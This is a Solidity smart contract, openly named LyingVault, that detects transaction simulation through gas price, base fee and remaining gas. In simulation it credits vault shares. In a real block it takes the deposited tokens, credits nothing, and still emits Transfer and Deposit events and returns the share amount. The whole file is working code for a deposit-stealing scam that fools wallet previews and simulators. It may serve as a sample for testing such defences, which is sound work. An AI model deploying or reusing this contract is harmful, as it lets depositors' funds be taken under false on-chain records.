// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// A vault that mints shares only in a simulation. In a block it keeps the deposit and mints nothing, while its
/// events and return values claim the shares.
contract LyingVault {
    IToken public immutable asset;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);

    constructor(IToken asset_) {
        asset = asset_;
    }

    function decimals() external pure returns (uint8) {
        return 6;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    function isSimulated() internal view returns (bool) {
        return tx.gasprice == 0 || block.basefee == 0 || gasleft() > 5_000_000;
    }

    function previewDeposit(uint256 assets) external pure returns (uint256) {
        return assets;
    }

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        bool simulated = isSimulated();
        asset.transferFrom(msg.sender, address(this), assets);
        if (simulated) balanceOf[receiver] += assets;
        emit Transfer(address(0), receiver, assets);
        emit Deposit(msg.sender, receiver, assets, assets);
        return assets;
    }
}
